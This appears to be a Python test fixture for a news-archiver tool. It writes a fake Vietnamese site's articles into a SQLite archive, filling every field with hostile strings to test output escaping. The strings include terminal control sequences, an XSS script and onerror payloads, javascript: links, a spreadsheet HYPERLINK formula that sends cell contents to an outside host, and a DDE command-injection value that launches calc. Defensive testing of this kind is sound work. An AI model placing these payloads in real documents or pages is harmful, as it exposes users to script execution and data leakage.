"""An archive of articles that try to take over whatever shows them: terminal, spreadsheet, feed reader, browser."""

from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path

from sqlite_utils import Database

from archiver.archive.runs.run_log import Run, add_finding, close_run, open_run
from archiver.archive.store.file import create_or_open
from archiver.ingest.record import record_capture
from archiver.model import Article, Attachment, Capture, Count, Image, Problem, PublishedDate
from archiver.site import Site

SITE = Site("xau", 'Trang "xấu" <b>\x1b[1m & Co', "liferay_hanoi")
FIRST = datetime(2022, 5, 1, 1, tzinfo=UTC)
TITLES = {
    "1": "Tin \x1b[31mđỏ\x1b[0m\x07 và \u202eđảo\u202c\x9b2J",
    "2": '=HYPERLINK("http://xau.vn/?"&A1,"Bấm vào đây")',
    "3": '<script>alert("xấu")</script><img src=x onerror=alert(1)>',
    "4": 'Có "ngoặc", dấu phẩy\r\nxuống dòng\tvà \\ gạch chéo',
    "5": " \t-2+3+cmd|' /C calc'!A0",
    "6": "]]> & <!-- \x0b\x00\ufffe\u2028\x85 &#8; {{ 7*7 }}",
    "7": "-5",
}
RUN_AWAY = "javascript:alert(document.domain)"


def make_hostile(path: Path) -> None:
    """Write the archive: each article seen twice, edited in between."""
    database = create_or_open(path)
    for week in range(2):
        at = FIRST + timedelta(weeks=week)
        with database.atomic():
            run = open_run(database.conn, SITE, {}, at)
        for minute, (key, title) in enumerate(TITLES.items()):
            _record(database, run, _write(key, title, week), at + timedelta(minutes=minute))
        with database.atomic():
            add_finding(database.conn, run, TITLES["4"], Problem(TITLES["1"], TITLES["6"]))
            close_run(database.conn, run, "problems", 9, at + timedelta(hours=1))
    database.close()


def _record(database: Database, run: Run, article: Article, at: datetime) -> None:
    record_capture(database, run, SITE, Capture(article.url, at, 200, (), TITLES["1"].encode()), article)


def _write(key: str, title: str, week: int) -> Article:
    article = Article(
        native_key=key,
        url=f"http://xau.vn/tin/-/view_content/{key}-x.html",
        title=title,
        section=title,
        lead=title,
        author=title,
        paragraphs=(title, "=1+1", f"Bản thứ {week + 1}."),
        body_html=f'<p onclick="{RUN_AWAY}">{title}<a href="{RUN_AWAY}">x</a><script>alert(1)</script></p>',
        published=PublishedDate(title, datetime(2022, 4, int(key), 2, tzinfo=UTC), "minute"),
        views=Count("-9", 9 + week),
        images=(Image(f"http://xau.vn/{key}.png", title, title), Image(RUN_AWAY, None, None)),
        attachments=(Attachment(RUN_AWAY, title),),
    )
    return replace(article, title=f"{title} (sửa)") if week else article
